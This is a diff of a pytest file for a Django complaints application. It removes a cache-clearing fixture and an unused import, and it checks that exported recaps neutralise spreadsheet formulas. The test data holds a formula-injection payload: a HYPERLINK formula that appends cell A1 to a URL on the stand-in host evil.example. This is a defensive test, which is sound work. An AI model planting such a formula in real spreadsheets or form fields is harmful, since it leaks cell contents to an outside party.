@@ -5,7 +5,6 @@ from __future__ import annotations
 from io import BytesIO
 
 import pytest
-from django.core.cache import cache
 from openpyxl import load_workbook
 
 from maklumat.complaints.models import Complaint
@@ -14,11 +13,6 @@ from maklumat.lib.tests.pdf import pdf_text
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
 BROKEN = "Antrean \ufffe macet"
-
-
-@pytest.fixture(autouse=True)
-def fresh_rate_limits():
-    cache.clear()
 
 
 def test_a_formula_subject_from_the_public_form_and_api_arrives_in_the_recap_as_text(client, client_of, pamekasan):
